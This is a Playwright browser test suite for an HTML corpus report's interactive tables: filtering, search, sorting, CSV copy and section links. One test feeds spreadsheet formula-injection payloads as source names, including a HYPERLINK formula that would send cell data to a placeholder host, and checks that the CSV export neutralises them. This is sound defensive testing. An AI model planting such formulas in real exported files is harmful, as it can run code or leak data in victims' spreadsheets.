"""Tables in a real browser: filter, search, sort, show all, copy as CSV; links to sections."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from report_folders import WHO, text, write_audit
from test_report import HOSTILE
from test_report_browser import ARGUMENTS, CHROMIUM, opened

from corpus_assay.reports import write_report

playwright = pytest.importorskip(
    "playwright.sync_api", reason="needs the package playwright (pip install '.[test]')"
)
pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(), reason=f"needs a browser at {CHROMIUM} (apt-get install chromium)"
)

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1"),
    *('a";=1+1', "a;=1+1", "a\t=1+1", "a\n=1+1", 'x"",=1+1', "\u202e=1+1", "\u200b=1+1"),
    '=HYPERLINK("https://example.invalid?"&A1,"x")',
)
"""What a spreadsheet would run, at the start of a cell and behind what might end one."""


@pytest.fixture(scope="module")
def browser() -> Iterator[playwright.Browser]:
    with playwright.sync_playwright() as driver:
        instance = driver.chromium.launch(executable_path=CHROMIUM, args=list(ARGUMENTS))
        try:
            yield instance
        finally:
            instance.close()


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three languages in 80 sources: some tables go on in data islands."""
    documents = [
        text(f"source {place:02}", code, 100 + place, 1 + place % 3, 1, place % 2)
        for place in range(80)
        for code in ("eng", "arb", "isl")
        if code == "eng" or place % 2
    ]
    terms = [
        ("eng", "feminine", "woman", "woman", False, 71),
        ("arb", "feminine", "woman", "امرأة", False, 33),
    ]
    return write_report(write_audit(tmp_path_factory.mktemp("audit"), documents, terms=terms))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Sources whose names are formulas or worse; most of them stand in a data island."""
    strings = dict.fromkeys((*FORMULAS, *HOSTILE))
    names = [f"{string}" for string in strings] + [f"{string} 2" for string in strings]
    documents = [text("web", "eng", 100, 1, 1) for _ in range(70)]
    documents += [text(name, "eng", 100, 1, 1) for name in names for _ in range(2)]
    documents += [text(f"s{place}", "eng", 100, 1, 1) for place in range(60) for _ in range(3)]
    return write_report(write_audit(tmp_path_factory.mktemp("audit"), documents))


def bar(page: playwright.Page, caption: str) -> playwright.Locator:
    """The tools of a table."""
    button = page.get_by_role("button", name=f"Copy as CSV: {caption}")
    return page.locator(".tools").filter(has=button)


def copied(page: playwright.Page, caption: str) -> list[list[str]]:
    """What the button writes to the clipboard, read as CSV."""
    page.evaluate(
        "Object.defineProperty(navigator, 'clipboard', {configurable: true, value: "
        "{writeText: (text) => { window.written = text; return Promise.resolve(); }}})"
    )
    tools = bar(page, caption)
    tools.get_by_role("button", name="Copy as CSV").press("Enter")
    tools.get_by_text("copied").wait_for()
    written: str = page.evaluate("window.written")
    return list(csv.reader(io.StringIO(written, newline="")))


def first_cells(page: playwright.Page, section: str, table: int = 0) -> list[str]:
    rows = page.locator(f"#{section} table").nth(table).locator("tbody tr")
    found: list[str] = rows.evaluate_all("rows => rows.map((row) => row.cells[0].textContent)")
    return found


CELLS = "Languages in sources, the largest first: matches per 1,000 words with 95% intervals"


def test_rows_of_an_island_are_shown_searched_and_sorted(
    browser: playwright.Browser, report: Path
) -> None:
    with opened(browser, report) as page:
        tools = bar(page, CELLS)
        table = page.locator("#sources table").last
        rows = table.locator("tbody tr")
        assert rows.count() == 50
        assert tools.get_by_role("status").inner_text() == "50 of 160 shown"
        # Sorting looks at all rows, also at those that were not shown.
        head = table.get_by_role("columnheader", name="Words")
        head.get_by_role("button").press("Enter")
        assert head.get_attribute("aria-sort") == "descending"
        assert rows.first.locator("td").nth(2).inner_text() == "179"
        assert rows.first.locator("td").first.inner_text() == "source 79"
        head.get_by_role("button").press("Space")
        assert head.get_attribute("aria-sort") == "ascending"
        assert rows.first.locator("td").nth(2).inner_text() == "100"
        tools.get_by_role("searchbox").fill("SOURCE 77")
        assert rows.count() == 3
        assert tools.get_by_role("status").inner_text() == "3 of 160 rows found"
        tools.get_by_role("searchbox").fill("nothing of the kind")
        assert rows.all_inner_texts() == ["No such row."]
        tools.get_by_role("searchbox").fill("")
        tools.get_by_role("button", name="Show all 160 rows").press("Enter")
        assert rows.count() == 160
        # A row of the island looks like a row that was there.
        last = rows.filter(has_text="English").last
        assert last.locator("th[scope=row] bdi[dir=auto]").count() == 1
        assert last.locator("td.number").count() == 8
        assert last.locator("td.number small").count() > 0


def test_filter_by_language_and_source_in_all_sections(
    browser: playwright.Browser, report: Path
) -> None:
    with opened(browser, report) as page:
        page.get_by_label("Language", exact=True).select_option("Standard Arabic")
        assert first_cells(page, "gender") == ["Standard Arabic"]
        assert first_cells(page, "composition") == ["Standard Arabic"]
        assert set(first_cells(page, "sources", -1)) == {"Standard Arabic"}
        assert page.locator("#terms details:visible").count() == 1
        assert page.locator("#terms td:visible", has_text="woman").count() == 1
        assert page.locator("#sources details:visible").count() == 1
        dim = page.locator("#gender svg g.dim").evaluate_all(
            "groups => groups.map((group) => group.dataset.language)"
        )
        assert dim == ["English"]
        page.get_by_label("Source", exact=True).select_option("source 79")
        rows = page.locator("#sources table").last.locator("tbody tr")
        assert rows.count() == 1
        assert "source 79" in rows.inner_text()
        status = page.get_by_role("search").get_by_role("status")
        assert status.inner_text().startswith("Tables are filtered.")
        page.get_by_label("Language", exact=True).select_option("all")
        assert rows.count() == 3
        page.get_by_label("Source", exact=True).select_option("all")
        assert rows.count() == 50
        assert page.locator("g.dim").count() == 0
        assert status.inner_text() == ""


def test_tables_with_two_rows_of_heads_sort(browser: playwright.Browser, tmp_path: Path) -> None:
    documents = [text("web", code, 100, 1, 1) for code in ("eng", "hin") for _ in range(130)]
    path = write_report(write_audit(tmp_path, documents, who=WHO))
    with opened(browser, path) as page:
        assert first_cells(page, "pronouns") == ["English", "Hindi"]
        heads = page.locator("#pronouns table").first.locator("thead th[aria-sort], thead button")
        assert heads.count() == 10
        # Unspecified, of all documents: English 88 of 130, Hindi 20 of 130.
        place = (
            page.locator("#pronouns table").first.locator("thead tr").nth(1).locator("th").nth(4)
        )
        place.get_by_role("button").click()
        place.get_by_role("button").click()
        assert place.get_attribute("aria-sort") == "ascending"
        assert first_cells(page, "pronouns") == ["Hindi", "English"]
        (head, english, hindi) = copied(
            page, "Documents with a third-person pronoun, by gender, with 95% intervals"
        )
        # In the order that is shown, with both rows of heads, an interval in a column of its own.
        assert [english[0], hindi[0]] == ["Hindi", "English"]
        column = head.index("Unspecified: of all documents")
        assert head[column + 1] == "Unspecified: of all documents: note"
        assert hindi[column : column + 2] == ["67.7%", "59.2% to 75.1%"]


def test_csv_has_all_rows_and_numbers_as_numbers(browser: playwright.Browser, report: Path) -> None:
    with opened(browser, report) as page:
        head, *rows = copied(page, CELLS)
        assert len(rows) == 160
        assert head[:4] == ["Language", "Source", "Documents", "Words"]
        by_key = {(row[0], row[1]): dict(zip(head, row, strict=True)) for row in rows}
        assert by_key["English", "source 79"]["Words"] == "179"
        assert by_key["English", "source 79"]["Feminine"] == "11.2"
        assert by_key["Icelandic", "source 01"]["Feminine"] == "not measured"
        page.get_by_label("Source", exact=True).select_option("source 78")
        assert len(copied(page, CELLS)) == 2


def test_cells_that_a_spreadsheet_would_run_are_text(
    browser: playwright.Browser, hostile: Path
) -> None:
    with opened(browser, hostile) as page:
        caption = "Documents, words and bytes by source, and the part of gendered words that is"
        tools = bar(page, f"{caption} feminine")
        head, *rows = copied(page, f"{caption} feminine")
        names = [row[0] for row in rows]
        assert len(names) == 1 + 60 + 2 * len({*FORMULAS, *HOSTILE})
        assert all(len(row) == len(rows[0]) == len(head) for row in rows)
        for name in names:
            assert name[0] not in "=+-@\t\r＝＋－＠", name
            assert name.isprintable(), name
        text = page.evaluate("window.written")
        lines = text.split("\r\n")
        assert len(lines) == len(names) + 1
        for line in lines:
            # Neither where the line is read as one cell, nor with another separator.
            assert line.startswith('"')
            for separator in ";\t|":
                for part in line.split(separator):
                    assert part.lstrip()[:1] not in ("=", "+", "-", "@"), part
        assert "'=1+1" in names
        assert "⟦U+202E⟧=1+1" in names
        assert "a;'=1+1" in names
        assert tools.get_by_text(f"{len(names)} rows copied").is_visible()


def test_without_a_clipboard_the_csv_can_be_taken_by_hand(
    browser: playwright.Browser, report: Path
) -> None:
    with opened(browser, report) as page:
        page.evaluate("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
        tools = bar(page, "Documents, words and bytes by language")
        tools.get_by_role("button", name="Copy as CSV").click()
        area = tools.get_by_role("textbox", name="CSV: ")
        assert area.input_value().startswith('"Language","Code"')
        assert area.evaluate("each => each.selectionEnd - each.selectionStart") > 100


def test_every_section_can_be_linked_to(browser: playwright.Browser, report: Path) -> None:
    with opened(browser, report) as page:
        headings = page.locator("main h2, main h3")
        links = page.locator("main h2 > a[href^='#'], main h3 > a[href^='#']")
        assert headings.count() == links.count() >= 15
        targets = links.evaluate_all("all => all.map((each) => each.hash.slice(1))")
        assert len(set(targets)) == len(targets)
        missing = "ids => ids.filter((id) => document.querySelectorAll('#' + id).length !== 1)"
        assert page.evaluate(missing, targets) == []
        ids = "[...document.querySelectorAll('[id]')].map((each) => each.id)"
        found = page.evaluate(ids)
        assert len(set(found)) == len(found)
        page.get_by_role("link", name="Every language in every source").click()
        assert page.url.endswith("#sources-every-language-in-every-source")


def test_charts_say_their_values_under_the_pointer(
    browser: playwright.Browser, report: Path
) -> None:
    with opened(browser, report) as page:
        titles = page.locator("#gender svg g.row > title").all_text_contents()
        assert len(titles) == 2
        assert titles[0].startswith("English: feminine 14.2 (12.9 to 15.6), masculine 7.17 (")


def test_the_island_is_not_needed_to_read(browser: playwright.Browser, report: Path) -> None:
    with opened(browser, report, java_script_enabled=False) as page:
        table = page.locator("#sources table").last
        assert table.locator("tbody tr").count() == 50
        assert page.get_by_text("110 more rows in tables/gender.parquet.").is_visible()
        assert page.locator(".tools, .filters").count() == 0
